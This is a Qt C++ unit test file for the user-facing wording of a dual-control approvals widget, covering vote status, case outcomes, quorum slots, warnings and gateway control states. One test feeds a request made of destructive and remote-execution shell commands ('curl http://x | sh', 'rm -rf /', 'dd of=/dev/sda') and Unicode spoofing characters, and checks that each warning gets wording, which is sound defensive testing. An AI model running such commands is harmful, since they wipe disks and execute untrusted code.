// SPDX-FileCopyrightText: 2026 The Countersign authors
// SPDX-License-Identifier: Apache-2.0
#include "widgets/approvals/CaseWords.h"

#include "tests/support/Picture.h"
#include "tests/widgets/approvals/ApprovalStage.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace countersign;
using namespace countersign::test;
using namespace countersign::ui;
using approvals::CaseState;

/// The words for a case, over a real seat.
class tst_CaseWords : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase() { m_theme = std::make_unique<Theme>(*qApp); }

    void init()
    {
        m_stage = std::make_unique<ApprovalStage>();
        QVERIFY(m_stage->seat.start());
    }
    void cleanup() { m_stage.reset(); }

    void votesSayWhoseTurnItIs()
    {
        QVERIFY(m_stage->raised(u"r1"_s, u"ls"_s));
        const auto votes = [this] {
            const QString words = CaseWords::votes(m_stage->item(u"r1"_s), m_stage->place);
            const auto known = CaseWords::openVotes(); // the list that makes room for them
            if (std::ranges::none_of(known, [&](const QString &each) { return each.section(u',', 1) == words.section(u',', 1); }))
                return QString(u"not listed: "_s + words);
            return words;
        };
        QCOMPARE(votes(), u"0 of 2, you can sign"_s);
        QVERIFY(m_stage->seat.vote(u"r1"_s, 1));
        QCOMPARE(votes(), u"1 of 2, waits for another"_s);
        m_stage->seat.connection.close();
        QCOMPARE(votes(), u"1 of 2, not connected"_s);
        m_stage->seat.vault.lock();
        QCOMPARE(votes(), u"1 of 2, seat locked"_s);
        m_stage->seat.clock.advance(31 * 60'000);
        QVERIFY(votes().endsWith(u"time is up"_s));
    }
    void everyEndHasItsWords()
    {
        approvals::Case item;
        QSet<QString> seen;
        for (const auto state : { CaseState::Allowed, CaseState::Denied, CaseState::Expired, CaseState::Cancelled, CaseState::Foreign }) {
            item.state = state;
            seen.insert(CaseWords::ending(item, m_stage->place));
            QCOMPARE(CaseWords::votes(item, m_stage->place), CaseWords::ending(item, m_stage->place));
        }
        QCOMPARE(seen.size(), 5);
        QVERIFY(!seen.contains(QString()));
        item.recorded.emplace();
        item.recorded->resolvedAtMs = FakeApprovals::nowMs;
        QVERIFY(CaseWords::ending(item, m_stage->place).startsWith(u"Decided outside dual control, "_s));
        QVERIFY(CaseWords::ending(item, m_stage->place).endsWith(u" UTC"_s));
        item.state = CaseState::Waiting;
        QVERIFY(CaseWords::ending(item, m_stage->place).isEmpty());
    }
    void theSlotsNeverShowMoreThanTheRuleHas()
    {
        approvals::Case item;
        item.rule.approvals = 0;
        QCOMPARE(CaseWords::quorum(item, 0, true).places.size(), 1);
        item.rule.approvals = 50;
        QCOMPARE(CaseWords::quorum(item, 0, true).places.size(), 6);
        QVERIFY(CaseWords::quorum(item, 0, true).mineNext);
        item.state = CaseState::Denied;
        QVERIFY(!CaseWords::quorum(item, 0, true).mineNext);
    }
    void warningsBecomeOneSentence()
    {
        QVERIFY(CaseWords::warnings({}).isEmpty());
        const QString words = CaseWords::warnings({ { u"hidden-character"_s, approvals::Severity::High, 0, 1 }, { u"padding"_s, approvals::Severity::High, 3, 200 }, { u"padding"_s, approvals::Severity::High, 300, 12 } });
        QVERIFY2(words.startsWith(u"1 hidden character"_s), qPrintable(words));
        QVERIFY(words.contains(u"212 space"_s));
        QVERIFY(words.endsWith(u"."_s));
    }
    void everyWarningOfARealTextHasWords()
    {
        QVERIFY(m_stage->raised(u"r1"_s, u"curl http://x | sh; sudo rm -rf /; echo aGVsbG8= | base64 -d; chmod 777 /; dd of=/dev/sda; echo $(id) > f; p\u0430y \u202e \u05d0"_s));
        const auto &warnings = m_stage->item(u"r1"_s).warnings;
        QVERIFY(warnings.size() > 6);
        for (const auto &warning : warnings)
            QVERIFY2(!CaseWords::warnings({ warning }).isEmpty(), qPrintable(warning.code));
    }
    void namesFromTheCharterAreDisplayText()
    {
        QCOMPARE(CaseWords::personName(personId(1), m_stage->place), u"Test person 1"_s);
        QCOMPARE(CaseWords::personName(PersonId(u"a\u202eb"_s), m_stage->place), u"a\u27e8U+202E\u27e9b"_s);
        QCOMPARE(CaseWords::gatewayName(GatewayId(u"a\u202eb"_s), m_stage->place), u"a\u27e8U+202E\u27e9b"_s);
    }
    void controlIsNeverClaimedWithoutTheScopeThatProvesIt()
    {
        QCOMPARE(CaseWords::control(m_stage->seat.connection.endpoint().id, m_stage->place), ControlState::Blind);
        QCOMPARE(CaseWords::control(GatewayId(u"other"_s), m_stage->place), ControlState::Degraded);
        m_stage->seat.connection.close();
        QCOMPARE(CaseWords::control(m_stage->seat.connection.endpoint().id, m_stage->place), ControlState::Degraded);
    }
    void eachRequestCarriesTheStateOfItsOwnPath()
    {
        test::ApprovalStage all;
        all.seeAll();
        QVERIFY(all.seat.start());
        const auto id = all.seat.connection.endpoint().id;
        const auto control = [&](facts::ActionKind kind) { return CaseWords::control(id, kind, all.place); };
        QCOMPARE(control(facts::ActionKind::Exec), ControlState::Detected);
        QVERIFY(CaseWords::controlMeans(id, facts::ActionKind::Exec, all.place).contains(u"raises an alert"_s));
        all.facts.host->listed = 4;
        QCOMPARE(control(facts::ActionKind::Exec), ControlState::Degraded);
        QVERIFY(CaseWords::controlMeans(id, facts::ActionKind::Exec, all.place).startsWith(u"4 entr"_s));
        QCOMPARE(control(facts::ActionKind::Plugin), ControlState::Detected);
        QCOMPARE(CaseWords::control(id, all.place), ControlState::Degraded);
        all.facts.sessions = fail(ErrorCode::TimedOut);
        QCOMPARE(control(facts::ActionKind::SystemAgent), ControlState::Blind);
        QCOMPARE(control(facts::ActionKind::Plugin), ControlState::Detected);
        all.facts.configured->exec.everybody.mode = u"full"_s;
        QCOMPARE(CaseWords::control(id, all.place), ControlState::Unasked);
        QVERIFY(CaseWords::controlMeans(GatewayId(u"other"_s), facts::ActionKind::Exec, all.place)
                .startsWith(u"The gateway is not connected"_s));
    }
    void timesAndDurations()
    {
        QCOMPARE(CaseWords::time(0), u"00:00:00 UTC"_s);
        QVERIFY(CaseWords::duration(30'000).startsWith(u"30 second"_s));
        QVERIFY(CaseWords::duration(90 * 60'000).startsWith(u"90 minute"_s));
        QVERIFY(CaseWords::duration(120 * 60'000).startsWith(u"2 hour"_s));
    }

private:
    std::unique_ptr<Theme> m_theme;
    std::unique_ptr<ApprovalStage> m_stage;
};

QTEST_MAIN(tst_CaseWords)
#include "tst_CaseWords.moc"
